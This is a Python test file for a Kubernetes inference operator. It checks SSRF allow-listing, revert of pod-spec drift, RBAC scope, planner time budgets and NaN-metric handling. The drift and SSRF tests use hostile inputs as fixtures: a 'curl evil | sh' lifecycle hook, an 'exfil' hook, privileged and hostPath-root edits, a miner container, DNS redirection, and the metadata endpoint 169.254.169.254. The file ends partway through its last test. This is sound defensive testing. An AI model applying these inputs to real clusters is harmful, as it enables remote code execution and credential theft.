"""Issue 15, operator side: no SSRF, planner time budget, metrics edge cases, child drift, RBAC."""

from __future__ import annotations

import copy
import dataclasses
import datetime as dt

import pytest
from test_measure import NAME, NS, Rig

from tokenfactory.exporter import FakeExporter
from tokenfactory.kube import FakeKube
from tokenfactory.metrics_source import FakeMetricsSource, SourcesByUrl
from tokenfactory.pipeline import FactoryMemory, Reconciler

T0 = dt.datetime(2026, 11, 23, 12, 0, tzinfo=dt.UTC)


# ------------------------------------------------------------------------------ item 2: no SSRF


class Recording(FakeMetricsSource):
    pass


def ssrf_rig(example, spec_url, allowed=frozenset(), default="http://prometheus.monitoring:9090"):
    rig = Rig(example)
    rig.obj["spec"]["metrics"]["prometheusUrl"] = spec_url
    rig.sources = {u: Recording() for u in {spec_url, default, *allowed}}
    rig.rec = Reconciler(rig.kube, sources=SourcesByUrl(preset=rig.sources), exporter=FakeExporter(),
                         default_prometheus_url=default, allowed_prometheus_urls=frozenset(allowed))
    return rig


@pytest.mark.parametrize("url", ["http://169.254.169.254/latest/meta-data", "http://db.llm.svc:5432",
                                 "https://kubernetes.default.svc"])
async def test_spec_prometheus_url_outside_the_allow_list_is_never_fetched(two_pool_example, url):
    rig = ssrf_rig(two_pool_example, url, allowed={"http://thanos.monitoring:9090"})
    await rig.step()
    events = await rig.step()
    assert rig.sources[url].calls == []  # nothing was fetched from the user's URL
    assert rig.sources["http://prometheus.monitoring:9090"].calls == []  # nor silently from another one
    cond = rig.cond("MetricsAvailable")
    assert cond["status"] == "False" and cond["reason"] == "PrometheusURLNotAllowed"
    assert "spec.metrics.prometheusUrl" in cond["message"] and "allow-list" in cond["message"]
    assert [e.reason for e in events if e.type == "Warning" and e.reason != "UnevenCapacity"] == ["MetricsUnavailable"]


async def test_spec_prometheus_url_on_the_allow_list_is_read(two_pool_example):
    allowed = "http://thanos.monitoring:9090"
    rig = ssrf_rig(two_pool_example, allowed + "/", allowed={allowed})
    rig.sources[allowed].set_pool(NS, NAME, "gb300", generation_tokens_per_second=1000.0)
    await rig.step()
    await rig.step()
    assert rig.sources[allowed].calls and rig.cond("MetricsAvailable")["status"] == "True"
    assert rig.sources["http://prometheus.monitoring:9090"].calls == []


async def test_without_spec_url_the_operators_prometheus_is_read(two_pool_example):
    rig = ssrf_rig(two_pool_example, "http://prometheus.monitoring:9090")
    del rig.obj["spec"]["metrics"]["prometheusUrl"]
    rig.sources["http://prometheus.monitoring:9090"].set_pool(NS, NAME, "gb300", generation_tokens_per_second=1000.0)
    await rig.step()
    await rig.step()
    assert rig.cond("MetricsAvailable")["status"] == "True"


# ------------------------------------------------------------------ item 5: children stay as written

from tokenfactory import drift, render  # noqa: E402
from tokenfactory import api  # noqa: E402


def rendered_pod(example):
    spec = api.parse_spec(example["spec"])
    dep = render.render(render.Owner("deepseek-r1", "llm", "uid"), spec)[0]
    return dep["spec"]["template"]["spec"]


def defaulted(pod):
    """What the apiserver stores: defaults filled in (not drift)."""
    pod = copy.deepcopy(pod)
    pod.update(restartPolicy="Always", dnsPolicy="ClusterFirst", schedulerName="default-scheduler")
    pod.setdefault("securityContext", {})
    for c in pod["containers"]:
        c.update(terminationMessagePath="/dev/termination-log", imagePullPolicy="IfNotPresent")
        for probe in ("startupProbe", "readinessProbe", "livenessProbe"):
            c[probe]["httpGet"]["scheme"] = "HTTP"
            c[probe].update(timeoutSeconds=1, successThreshold=1)
        for port in c["ports"]:
            port.pop("protocol", None)  # absent here, TCP by default: the same
    return pod


def test_defaults_are_not_drift(two_pool_example):
    pod = rendered_pod(two_pool_example)
    pod["volumes"].append({"name": "cfg", "configMap": {"name": "x"}})
    live = defaulted(pod)
    live["volumes"][-1]["configMap"]["defaultMode"] = 420  # the apiserver's default
    assert drift.pod_spec_drift(pod, live) == []


@pytest.mark.parametrize("edit, field", [
    (lambda p: p["containers"].append({"name": "miner", "image": "busybox"}), "containers[miner] (added)"),
    (lambda p: p.update(hostNetwork=True), "spec.template.spec.hostNetwork"),
    (lambda p: p.update(hostPID=True), "spec.template.spec.hostPID"),
    (lambda p: p["containers"][0].update(securityContext={"privileged": True}), "containers[vllm].securityContext"),
    (lambda p: p.update(securityContext={"runAsUser": 0}), "spec.template.spec.securityContext"),
    (lambda p: p["volumes"].append({"name": "host", "hostPath": {"path": "/"}}), "spec.template.spec.volumes"),
    (lambda p: p["containers"][0].setdefault("volumeMounts", []).append({"name": "host", "mountPath": "/host"}),
     "containers[vllm].volumeMounts"),
    (lambda p: p["containers"][0].update(image="evil/vllm"), "containers[vllm].image"),
    (lambda p: p["containers"][0].setdefault("env", []).append({"name": "X", "valueFrom": {"secretKeyRef": {"name": "db", "key": "pw"}}}),
     "containers[vllm].env"),
    (lambda p: p.update(serviceAccountName="admin"), "spec.template.spec.serviceAccountName"),
    (lambda p: p.update(initContainers=[{"name": "init", "image": "busybox"}]), "spec.template.spec.initContainers"),
    (lambda p: p["containers"][0]["ports"][0].update(hostPort=8000), "containers[vllm].ports"),
    (lambda p: p["containers"][0]["ports"].append({"containerPort": 22, "hostPort": 2222}), "containers[vllm].ports"),
    (lambda p: p["containers"][0].update(lifecycle={"postStart": {"exec": {"command": ["sh", "-c", "curl evil | sh"]}}}),
     "containers[vllm].lifecycle"),
    (lambda p: p["containers"][0].update(lifecycle={"preStop": {"exec": {"command": ["sh", "-c", "exfil"]}}}),
     "containers[vllm].lifecycle"),
    (lambda p: p["containers"][0].update(livenessProbe={"exec": {"command": ["sh", "-c", "x"]}, "periodSeconds": 10}),
     "containers[vllm].livenessProbe"),
    (lambda p: p["containers"][0]["readinessProbe"]["httpGet"].update(host="169.254.169.254"),
     "containers[vllm].readinessProbe"),
    (lambda p: p["containers"][0]["startupProbe"]["httpGet"].update(path="/other"), "containers[vllm].startupProbe"),
    (lambda p: p.update(hostAliases=[{"ip": "10.0.0.66", "hostnames": ["huggingface.co"]}]),
     "spec.template.spec.hostAliases"),
    (lambda p: p.update(dnsPolicy="Default"), "spec.template.spec.dnsPolicy"),
    (lambda p: p.update(dnsConfig={"nameservers": ["10.0.0.66"]}), "spec.template.spec.dnsConfig"),
])
def test_security_relevant_edits_are_drift(two_pool_example, edit, field):
    pod = rendered_pod(two_pool_example)
    live = defaulted(pod)
    edit(live)
    found = drift.pod_spec_drift(pod, live)
    assert len(found) == 1 and found[0].endswith(field), found


def test_probe_timings_and_a_rendered_dns_policy_are_not_drift(two_pool_example):
    """Deliberately left: probe timings; and an explicit dnsPolicy equal to what the apiserver defaults."""
    pod = rendered_pod(two_pool_example)
    live = defaulted(pod)
    live["containers"][0]["livenessProbe"].update(periodSeconds=30, failureThreshold=10)
    assert drift.pod_spec_drift(pod, live) == []
    live.pop("dnsPolicy")
    assert drift.pod_spec_drift(pod, live) == []


async def test_hand_edited_child_is_reverted_with_a_warning(two_pool_example):
    from test_controller import factory

    kube = FakeKube()
    rec, mem, obj = Reconciler(kube), FactoryMemory(), factory(two_pool_example)
    await rec.reconcile(obj, mem, T0)
    # what issue 15 saw persist: an extra container, privileged, hostNetwork, added by another manager
    kube.edit_pod_spec("llm", "deepseek-r1-gb300", {"hostNetwork": True, "containers": [{"name": "sidecar", "image": "busybox"}]})
    events = await rec.reconcile(obj, mem, T0 + dt.timedelta(seconds=5))
    pod = kube.objects[("Deployment", "llm", "deepseek-r1-gb300")]["spec"]["template"]["spec"]
    assert [c["name"] for c in pod["containers"]] == ["vllm"] and "hostNetwork" not in pod
    (warn,) = [e for e in events if e.type == "Warning" and e.reason != "UnevenCapacity"]
    assert warn.reason == "DriftReverted" and "deepseek-r1-gb300" in warn.message
    assert "containers[sidecar] (added)" in warn.message and "spec.template.spec.hostNetwork" in warn.message
    # reverted: the next pass finds nothing to revert
    again = await rec.reconcile(obj, mem, T0 + dt.timedelta(seconds=10))
    assert [e for e in again if e.reason == "DriftReverted"] == []
    assert ("replace_pod_spec", "Deployment", "llm", "deepseek-r1-h200") not in kube.calls


# ------------------------------------------------------------------ item 7: RBAC = the calls the code makes

import asyncio  # noqa: E402
import inspect  # noqa: E402
import subprocess  # noqa: E402
import types  # noqa: E402

import httpx  # noqa: E402
import yaml  # noqa: E402
from lightkube import ApiError  # noqa: E402
from test_chart import KUSTOMIZE, helm, kubectl, template  # noqa: E402,F401,F811 - the real helm and kubectl (fixtures)

from tokenfactory import kube as kube_mod  # noqa: E402
from tokenfactory.informer import ChildInformers  # noqa: E402
from tokenfactory.leader import LeaseElector  # noqa: E402
from tokenfactory.pipeline.admission import AdmissionReader  # noqa: E402

# The HTTP verb the apiserver authorises for each lightkube.AsyncClient method. A server-side apply is a PATCH
# that the apiserver also authorises as create when the object does not exist (yet, or any more).
LIGHTKUBE_VERBS = {"get": {"get"}, "list": {"list"}, "watch": {"watch"}, "create": {"create"},
                   "replace": {"update"}, "patch": {"patch"}, "delete": {"delete"}, "apply": {"create", "patch"}}
Calls = dict[tuple[str, str], set[str]]


def _not_found() -> ApiError:
    return ApiError(response=httpx.Response(404, json={"kind": "Status", "code": 404, "message": "not found"},
                                            request=httpx.Request("GET", "https://k/x")))


class _Listing:
    resourceVersion = "1"

    def __aiter__(self):
        return self

    async def __anext__(self):
        raise StopAsyncIteration


class RecordingLightkube:
    """Stands in for lightkube.AsyncClient under the operator's real adapters (LightkubeClient, ChildInformers,
    LeaseElector, AdmissionReader): records (apiGroup, resource) -> verbs of every request they would send,
    and answers just enough for them to go on."""

    def __init__(self):
        self.calls: Calls = {}
        self.lease_holder: str | None = None

    def _record(self, method: str, res) -> None:
        info = res._api_info
        plural = info.plural + (f"/{info.action}" if info.action else "")
        self.calls.setdefault((info.resource.group, plural), set()).update(LIGHTKUBE_VERBS[method])

    async def get(self, res, name, namespace=None):
        self._record("get", res)
        kind = res._api_info.resource.kind
        if kind == "Lease":
            if self.lease_holder is None:
                raise _not_found()
            return types.SimpleNamespace(spec=types.SimpleNamespace(holderIdentity=self.lease_holder, renewTime=None,
                                                                    leaseTransitions=0, acquireTime=None),
                                         metadata=types.SimpleNamespace(resourceVersion="1"))
        if kind == "ValidatingAdmissionPolicyBinding":
            return types.SimpleNamespace(spec=types.SimpleNamespace(paramRef=types.SimpleNamespace(name="tokenfactory")))
        return types.SimpleNamespace(to_dict=lambda: {"spec": {}})

    def list(self, res, namespace=None, labels=None):
        self._record("list", res)
        return _Listing()

    async def watch(self, res, namespace=None, labels=None, resource_version=None, server_timeout=None):
        self._record("watch", res)
        await asyncio.Event().wait()  # a watch that stays open until the informer stops
        yield  # pragma: no cover

    async def create(self, obj, namespace=None, field_manager=None):
        self._record("create", type(obj))
        if type(obj).__name__ == "Lease":
            self.lease_holder = obj.spec.holderIdentity
        return types.SimpleNamespace(to_dict=lambda: {})

    async def replace(self, obj, namespace=None, field_manager=None):
        self._record("replace", type(obj))
        return types.SimpleNamespace(to_dict=lambda: {})

    async def patch(self, res, name, body, namespace=None, patch_type=None, field_manager=None):
        self._record("patch", res)
        return types.SimpleNamespace(to_dict=lambda: {})

    async def apply(self, obj, field_manager=None, force=False):
        self._record("apply", type(obj))
        return types.SimpleNamespace(to_dict=lambda: {})

    async def delete(self, res, name, namespace=None):
        self._record("delete", res)

    async def close(self):
        pass


class RecordingKube(FakeKube):
    """The in-memory cluster answers; every KubeClient call is also sent through the real LightkubeClient over a
    recording lightkube client, so the verbs are those the real adapter would send."""

    def __init__(self):
        super().__init__()
        self.wire = RecordingLightkube()
        self.real = kube_mod.LightkubeClient(self.wire)
        self.methods: set[str] = set()
        self.cache_behind = False  # the watch cache has not seen the objects yet

    def cached(self, kind, namespace, name):
        return None if self.cache_behind else super().cached(kind, namespace, name)

    async def _also(self, method: str, *args) -> None:
        self.methods.add(method)
        await getattr(self.real, method)(*copy.deepcopy(args))

    async def list(self, kind, namespace, labels):
        await self._also("list", kind, namespace, labels)
        return await super().list(kind, namespace, labels)

    async def apply(self, manifest):
        await self._also("apply", manifest)
        return await super().apply(manifest)

    async def create(self, manifest):
        await self._also("create", manifest)
        return await super().create(manifest)

    async def get(self, kind, namespace, name, api_version=None):
        await self._also("get", kind, namespace, name, api_version)
        return await super().get(kind, namespace, name, api_version)

    async def delete(self, kind, namespace, name):
        await self._also("delete", kind, namespace, name)
        return await super().delete(kind, namespace, name)

    async def patch_status(self, namespace, name, status):
        await self._also("patch_status", namespace, name, status)
        return await super().patch_status(namespace, name, status)

    async def emit_event(self, involved, type_, reason, message):
        await self._also("emit_event", involved, type_, reason, message)
        return await super().emit_event(involved, type_, reason, message)

    async def replace_pod_spec(self, namespace, name, pod_spec):
        await self._also("replace_pod_spec", namespace, name, pod_spec)
        return await super().replace_pod_spec(namespace, name, pod_spec)


def _add(acc: Calls, more: Calls) -> None:
    for k, v in more.items():
        acc.setdefault(k, set()).update(v)


async def reconcile_calls(example) -> RecordingKube:
    """What the reconciler sends: create, a pass with the watch cache behind (create -> AlreadyExists -> get), a
    spec change (apply), revert drift, every routing mode made and removed, a pool removed."""
    from test_controller import factory

    kube = RecordingKube()
    rec, mem, obj = Reconciler(kube), FactoryMemory(), factory(example)

    async def passes(obj):
        await rec.reconcile(obj, mem, T0)  # create (or switch)
        kube.cache_behind = True
        await rec.reconcile(obj, mem, T0)  # the cache has not caught up: create -> AlreadyExists -> get
        kube.cache_behind = False
        for (kind, _, _), live in kube.objects.items():  # a hand edit of each routing object: applied back
            if kind != "Deployment":
                live["spec"] = {"handEdited": True}
                live["metadata"]["generation"] += 1
        await rec.reconcile(obj, mem, T0)

    await passes(obj)
    bigger = factory(example, generation=2)
    bigger["spec"]["pools"][0]["minReplicas"] += 1
    await rec.reconcile(bigger, mem, T0)  # a changed spec: apply
    kube.edit_pod_spec("llm", "deepseek-r1-gb300", {"hostNetwork": True})
    await rec.reconcile(bigger, mem, T0)  # revert drift
    for gen, routing in enumerate(({"mode": "HTTPRoute", "gateway": {"name": "gw"}},
                                   {"mode": "InferencePool", "endpointPicker": {"name": "epp"}},
                                   {"mode": "Service"}), start=3):  # routing objects made and removed per mode
        switched = factory(example, generation=gen)
        switched["spec"]["routing"] = routing
        await passes(switched)
    smaller = factory(example, generation=9)
    smaller["spec"]["pools"] = smaller["spec"]["pools"][:1]
    await rec.reconcile(smaller, mem, T0)  # delete a removed pool
    return kube


async def informer_calls() -> Calls:
    """The shared watch cache of the children: one list + watch per kind (cluster-wide here)."""
    wire = RecordingLightkube()
    informers = ChildInformers(wire)
    informers.start()
    await informers.wait_synced(timeout=5)
    await informers.stop()
    return wire.calls


async def lease_calls() -> tuple[Calls, str]:
    """Leader election: campaign (the Lease does not exist: create), renew (update), release (update)."""
    wire = RecordingLightkube()
    elector = LeaseElector(wire, "tokenfactory-system", "tokenfactory-operator")
    await elector.step()
    await elector.step()
    assert elector.is_leader
    await elector.release()
    return wire.calls, elector.name


async def admission_calls() -> Calls:
    wire = RecordingLightkube()
    state = await AdmissionReader("tokenfactory-author-rights", client=wire).state()
    assert state.allow is not None  # it read all three objects
    return wire.calls


def kopf_calls() -> Calls:
    """kopf lists/watches the resources it has handlers for, and removes the finalizer an older operator
    version put on TokenFactories (kopf/_core/reactor/processing.py: "Removing the finalizer, as there are no
    handlers requiring it"), a patch. Its own Events are core Events (create), as the code's."""
    import kopf

    import tokenfactory.handlers  # noqa: F401 - registers the handlers

    calls: Calls = {("tokenfactory.dev", "tokenfactories"): {"patch"}, ("", "events"): {"create"}}
    registry = kopf.get_default_registry()
    handlers = [*registry._watching.get_all_handlers(), *registry._spawning.get_all_handlers(),
                *registry._changing.get_all_handlers()]
    assert not registry._changing.get_all_handlers() and not registry._spawning.get_all_handlers(), \
        "change handlers/daemons make kopf write progress annotations and finalizers: revisit the patch verb"
    for h in handlers:
        _add(calls, {(h.selector.group, h.selector.plural or h.selector.any_name): {"list", "watch"}})
    return calls


async def namespaced_calls(example) -> Calls:
    calls: Calls = {}
    _add(calls, (await reconcile_calls(example)).wire.calls)
    _add(calls, await informer_calls())
    _add(calls, kopf_calls())
    return calls


def rules_of(docs, kind, name_suffix="") -> Calls:
    """(apiGroup, resource) -> verbs granted by the Roles/ClusterRoles of ``kind`` whose name ends with
    ``name_suffix``, leaving out kopf's observation of CRDs and namespaces (values rbac.*: kopf's own reads; the
    admission re-check's ``get namespaces`` with a namespaceSelector is checked by
    test_the_chart_grants_get_namespaces_only_for_a_namespace_selector)."""
    out: Calls = {}
    for d in docs:
        if d and d["kind"] == kind and d["metadata"]["name"].endswith(name_suffix):
            for r in d["rules"]:
                for g in r["apiGroups"]:
                    for res in r["resources"]:
                        if res not in ("customresourcedefinitions", "namespaces"):
                            out.setdefault((g, res), set()).update(r["verbs"])
    return out


async def test_every_kube_client_method_is_exercised(two_pool_example):
    """The reconcile scenario below calls every method of the real adapter (so none escapes the RBAC check)."""
    kube = await reconcile_calls(two_pool_example)
    methods = {n for n, f in inspect.getmembers(kube_mod.LightkubeClient, inspect.iscoroutinefunction)
               if not n.startswith("_") and n != "close"}
    assert kube.methods == methods


async def test_chart_and_kustomize_rbac_are_exactly_the_calls_the_code_makes(two_pool_example, helm, kubectl):  # noqa: F811
    """Both directions: every verb the code uses is granted (else Forbidden), and nothing more is."""
    namespaced = await namespaced_calls(two_pool_example)
    cluster_scoped = await admission_calls()
    lease, lease_name = await lease_calls()
    everything: Calls = {}
    _add(everything, namespaced)
    _add(everything, cluster_scoped)

    res = subprocess.run([kubectl, "kustomize", str(KUSTOMIZE)], capture_output=True, text=True)
    assert res.returncode == 0, res.stderr
    for docs in (template(helm), list(yaml.safe_load_all(res.stdout))):  # cluster-wide install
        assert rules_of(docs, "ClusterRole") == everything
        assert rules_of(docs, "Role", "-leader-election") == lease
        (role,) = [d for d in docs if d and d["kind"] == "Role"]
        assert {n for r in role["rules"] for n in r.get("resourceNames", [])} == {lease_name}
    # namespace-scoped install: the namespaced calls in a Role per watched namespace, the cluster-scoped reads
    # (the admission policy, by name) in a ClusterRole, the Lease as before
    docs = template(helm, "watchNamespaces={team-a,team-b}")
    roles = [d for d in docs if d["kind"] == "Role" and not d["metadata"]["name"].endswith("-leader-election")]
    assert sorted(r["metadata"]["namespace"] for r in roles) == ["team-a", "team-b"]
    for role in roles:
        assert rules_of([role], "Role") == namespaced
    assert rules_of(docs, "ClusterRole") == cluster_scoped
    assert rules_of(docs, "Role", "-leader-election") == lease


# ------------------------------------------------------------------ item 3: planner off the loop, time-boxed

import importlib.util  # noqa: E402
import threading  # noqa: E402

from tokenfactory import planner  # noqa: E402
from tokenfactory.pipeline import plan as plan_stage  # noqa: E402


def bench_planner_budget():
    path = KUSTOMIZE.parents[2] / "bench" / "planner_budget.py"
    spec = importlib.util.spec_from_file_location("bench_planner_budget", path)
    mod = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(mod)
    return mod


def test_adversarial_spec_stops_at_the_budget_with_the_best_mix_so_far():
    """The spec from issue 15 (8 near-tied custom pools, maxReplicas 1000, budget + power cap): the solver
    stops when told to (here at its 3rd check, node 257, instead of a time) and says so."""
    bench = bench_planner_budget()
    inputs = bench.adversarial_inputs()
    asked = []

    def stop():
        asked.append(1)
        return len(asked) >= 3

    plan, _ = planner.decide(None, inputs, 1_000.0, stop=stop)
    assert "time budget reached" in plan.summary and "best mix found so far" in plan.summary
    assert plan.megawatts <= inputs.objectives.max_megawatts + 1e-9
    assert plan.dollars_per_hour <= inputs.objectives.max_dollars_per_hour
    assert sum(plan.replicas.values()) > 0 and plan.capacity_tokens_per_second > 0
    # the same search without a stop runs far past where it was stopped (why a budget is needed)
    sol = planner.solve(inputs.pools, 2_400_000 * 1.2, current=inputs.current, max_dollars_per_hour=40_000,
                        max_megawatts=2.4, max_nodes=20_000)
    assert sol.nodes > 3 * 128 and not sol.stopped


def test_without_stop_the_solver_is_unchanged():
    pools = (planner.PoolProfile("a", "a", 10.0, 1000.0, 0, 20), planner.PoolProfile("b", "b", 12.0, 1300.0, 0, 20))
    sol = planner.solve(pools, 9000.0)
    assert sol.exact and not sol.stopped


async def test_plan_runs_in_a_worker_thread_with_a_deadline(two_pool_example, monkeypatch):
    seen = {}
    real = planner.decide

    def spy(state, inputs, now, *, stop=None):
        seen["thread"] = threading.get_ident()
        seen["stop"] = stop
        return real(state, inputs, now, stop=stop)

    monkeypatch.setattr(planner, "decide", spy)
    rig = Rig(two_pool_example)
    rig.prom.set_pool(NS, NAME, "gb300", generation_tokens_per_second=20_000.0)
    rig.prom.set_pool(NS, NAME, "h200", generation_tokens_per_second=600.0)
    await rig.step()
    await rig.step()
    assert seen["thread"] != threading.get_ident()  # not on the event loop's thread
    assert seen["stop"] is not None and seen["stop"]() is False  # a deadline, not yet reached
    assert plan_stage.PLAN_BUDGET_SECONDS <= 1.0


# ------------------------------------------------------------------ item 6: metrics edge cases

from tokenfactory import metrics_source as ms  # noqa: E402


def _vec(*samples):
    return {"status": "success", "data": {"resultType": "vector", "result": [
        {"metric": labels, "value": [100.0, v]} for labels, v in samples]}}


async def test_one_nan_gauge_on_one_pod_is_dropped_and_named_the_factory_still_measured():
    """Issue 15: one NaN vllm:num_requests_waiting on one pod made the whole factory BadResponse. The gauge
    queries leave out non-finite samples per series (so Prometheus' sum stays finite) and a query names them."""
    q = ms.promql_queries("ns", "f", 60)
    bad_pod = {"pool": "h200", "pod": "f-h200-7c9-abcde", "series": "vllm:num_requests_waiting"}
    answers = {
        q["generation_tokens_per_second"]: _vec(({"pool": "h200"}, "1440"), ({"pool": "gb300"}, "24000")),
        q["engines_reporting"]: _vec(({"pool": "h200"}, "2"), ({"pool": "gb300"}, "1")),
        q["requests_waiting"]: _vec(({"pool": "h200"}, "3"), ({"pool": "gb300"}, "0")),
        ms.nonfinite_query("ns", "f"): _vec((bad_pod, "NaN")),
    }
    assert "num_requests_waiting" in q["requests_waiting"] and ">= 0 < +Inf" in q["requests_waiting"]
    src = ms.PrometheusSource("http://p", auth=ms.PrometheusAuth(), transport=httpx.MockTransport(
        lambda r: httpx.Response(200, json=answers.get(r.url.params["query"], _vec()))))
    fm = await src.pool_metrics("ns", "f", 60)
    await src.aclose()
    assert fm.pools["gb300"].generation_tokens_per_second == 24000 and fm.pools["h200"].requests_waiting == 3
    assert fm.dropped == ("pod f-h200-7c9-abcde (pool h200): vllm:num_requests_waiting = NaN",)
    # a Prometheus that aggregates the NaN anyway: only that figure of that pool is left out
    fm = ms.assemble("ns", "f", 60, {
        "generation_tokens_per_second": [("h200", 1.0, 1440.0), ("gb300", 1.0, 24000.0)],
        "requests_waiting": [("h200", 1.0, float("nan")), ("gb300", 1.0, 0.0)],
        "requests_running": [("gb300", 1.0, float("inf"))]})
    assert fm.pools["h200"].generation_tokens_per_second == 1440 and fm.pools["h200"].requests_waiting == 0
    assert fm.dropped == ("pool h200: requests_waiting = NaN", "pool gb300: requests_running = +Inf")


# The operator reads metrics through metrics_batch.BatchedSource (one grouped query per figure for every factory),
# not PrometheusSource.pool_metrics: the edge cases below run on both paths. PromOverHttp answers the batched
# PromQL at the HTTP level from the same per-pool figures FakeMetricsSource holds.

from tokenfactory import metrics_batch as mb  # noqa: E402

_FIELD_OF = (("generation_tokens_total", "generation_tokens_per_second"), ("prompt_tokens_total", "prompt_tokens_per_second"),
             ("request_success_total", "requests_per_second"), ("time_to_first_token", "ttft_p95_seconds"),
             ("inter_token_latency", "itl_p95_seconds"), ("num_requests_waiting", "requests_waiting"),
             ("kv_cache_usage_perc", "kv_cache_usage"))


class PromOverHttp(FakeMetricsSource):
    """A Prometheus HTTP API answering the batched queries (``metrics_batch.batch_queries``) grouped by
    namespace/factory/pool, and the batched non-finite query from ``nonfinite`` rows."""

    def __init__(self):
        super().__init__()
        self.nonfinite: list[dict] = []  # {"namespace", "factory", "pool", "pod", "series", "value"}
        self.queries: list[str] = []

    def field_of(self, q: str) -> str:
        if q.startswith("count by"):
            return "engines_reporting"
        if "num_requests_running" in q:
            return "requests_running"
        return next(f for needle, f in _FIELD_OF if needle in q)

    def __call__(self, request: httpx.Request) -> httpx.Response:
        if self._fail:
            raise httpx.ConnectError("refused")
        q, ts = request.url.params["query"], float(request.url.params.get("time", "0"))
        self.queries.append(q)
        rows = []
        if " unless " in q:
            for r in self.nonfinite:
                rows.append({"metric": {k: r[k] for k in ("namespace", "factory", "pool", "pod", "series")},
                             "value": [ts, r["value"]]})
        else:
            name = self.field_of(q)
            for (ns, f), pools in sorted(self._pools.items()):
                for pool, pm in sorted(pools.items()):
                    v = getattr(pm, name)
                    if name == "generation_tokens_per_second" and not pm.reports_tokens:
                        v = None  # no such series
                    if v is None:
                        continue
                    rows.append({"metric": {"namespace": ns, "factory": f, "pool": pool}, "value": [ts, str(float(v))]})
        return httpx.Response(200, json={"status": "success", "data": {"resultType": "vector", "result": rows}})


def batched_rig(example) -> Rig:
    """A Rig whose Reconciler reads through the operator's batched reader over HTTP (``rig.prom`` is a PromOverHttp)."""
    rig = Rig(example)
    rig.prom = PromOverHttp()
    url = "http://prom.test:9090"
    inner = ms.PrometheusSource(url, auth=ms.PrometheusAuth(), transport=httpx.MockTransport(rig.prom))
    source = mb.BatchedSource(inner, clock=lambda: rig.now.timestamp())
    rig.rec = Reconciler(rig.kube, sources=SourcesByUrl(preset={url: source}), exporter=FakeExporter(),
                         default_prometheus_url=url)
    return rig


@pytest.fixture(params=["per-factory", "batched"])
def make_rig(request):
    return Rig if request.param == "per-factory" else batched_rig


def test_batched_queries_leave_out_non_finite_samples_per_series():
    """The path the operator uses: every summed/averaged figure filters NaN/Inf/negative samples per series
    before aggregating (one bad pod cannot poison its pool's sum); only the liveness count takes them all."""
    qs = mb.batch_queries(120, ("llm",))
    assert [n for n, q in qs.items() if ms.FINITE not in q] == ["engines_reporting"]
    q = mb.batch_nonfinite_query(("llm",))
    assert all(m in q for m in ms.CHECKED_SERIES) and 'namespace=~"llm"' in q


async def test_batched_path_names_dropped_series_per_factory():
    """Issue 15 on the batched reader: the series left out are named (pod and series) in the factory they
    belong to, the factory's other figures stand, another factory's reading names nothing."""
    prom = PromOverHttp()
    prom.set_pool("llm", "f1", "h200", generation_tokens_per_second=1440.0, engines_reporting=2, requests_waiting=3.0)
    prom.set_pool("llm", "f1", "gb300", generation_tokens_per_second=24000.0, engines_reporting=1)
    prom.set_pool("llm", "f2", "h200", generation_tokens_per_second=500.0, engines_reporting=1)
    prom.nonfinite = [{"namespace": "llm", "factory": "f1", "pool": "h200", "pod": "f1-h200-7c9-abcde",
                       "series": "vllm:num_requests_waiting", "value": "NaN"},
                      {"namespace": "llm", "factory": "f1", "pool": "gb300", "pod": "f1-gb300-55d-xyz",
                       "series": "vllm:generation_tokens_total", "value": "+Inf"}]
    src = mb.BatchedSource(ms.PrometheusSource("http://p", auth=ms.PrometheusAuth(), transport=httpx.MockTransport(prom)))
    f1 = await src.batched_metrics("llm", "f1", 60, 100.0, max_age=30)
    f2 = await src.batched_metrics("llm", "f2", 60, 100.0, max_age=30)
    await src.aclose()
    assert f1.dropped == ("pod f1-gb300-55d-xyz (pool gb300): vllm:generation_tokens_total = +Inf",
                          "pod f1-h200-7c9-abcde (pool h200): vllm:num_requests_waiting = NaN")
    assert f1.pools["h200"].requests_waiting == 3 and f1.pools["gb300"].generation_tokens_per_second == 24000
    assert f2.dropped == () and f2.pools["h200"].generation_tokens_per_second == 500
    assert len(prom.queries) == 10  # one batch for both factories: 9 figures + 1 naming what was left out


async def test_batched_errors_are_classified_never_copied():
    """A Prometheus error answer's text never reaches status (the per-factory URL may be a user's)."""
    with pytest.raises(ms.MetricsUnavailable) as err:
        mb.parse_grouped({"status": "error", "errorType": "db_password=hunter2", "error": "db_password=hunter2"}, "q")
    assert err.value.reason == "PrometheusError" and "hunter2" not in str(err.value)
    with pytest.raises(ms.MetricsUnavailable) as err:
        mb.parse_grouped({"status": "success", "data": {"resultType": "vector", "result": [
            {"metric": {"pool": "x"}, "value": [1, "db_password=hunter2"]}]}}, "q")
    assert err.value.reason == "BadResponse" and "hunter2" not in str(err.value)


async def test_dropped_series_on_the_batched_path_give_the_condition_and_warning(two_pool_example):
    rig = batched_rig(two_pool_example)
    rig.prom.set_pool(NS, NAME, "gb300", generation_tokens_per_second=20_000.0, engines_reporting=1)
    rig.prom.set_pool(NS, NAME, "h200", generation_tokens_per_second=600.0, engines_reporting=1)
    await rig.step()
    await rig.step()
    assert rig.cond("MetricsAvailable")["reason"] == "MetricsRead"
    rig.prom.nonfinite = [{"namespace": NS, "factory": NAME, "pool": "h200", "pod": "deepseek-r1-h200-x",
                           "series": "vllm:num_requests_waiting", "value": "NaN"}]
    events = await rig.step()
    cond = rig.cond("MetricsAvailable")
    assert cond["status"] == "True" and cond["reason"] == "SeriesDropped"
    assert "deepseek-r1-h200-x" in cond["message"] and "vllm:num_requests_waiting" in cond["message"]
    assert rig.status()["tokensPerSecond"] == pytest.approx(20_600)  # the rest is measured
    (warn,) = [e for e in events if e.type == "Warning" and e.reason != "UnevenCapacity"]
    assert warn.reason == "MetricsSeriesDropped" and "deepseek-r1-h200-x" in warn.message


class DroppingSource(FakeMetricsSource):
    dropped: tuple[str, ...] = ()

    async def pool_metrics(self, namespace, factory, window_seconds, now=None):
        fm = await super().pool_metrics(namespace, factory, window_seconds, now)
        return dataclasses.replace(fm, dropped=self.dropped)


async def test_dropped_series_give_a_condition_and_one_warning_naming_pod_and_series(two_pool_example):
    rig = Rig(two_pool_example)
    rig.prom = DroppingSource()
    rig.rec = Reconciler(rig.kube, sources=SourcesByUrl(preset={"http://prom.test:9090": rig.prom}),
                         exporter=FakeExporter(), default_prometheus_url="http://prom.test:9090")
    rig.prom.set_pool(NS, NAME, "gb300", generation_tokens_per_second=20_000.0)
    rig.prom.set_pool(NS, NAME, "h200", generation_tokens_per_second=600.0)
    await rig.step()
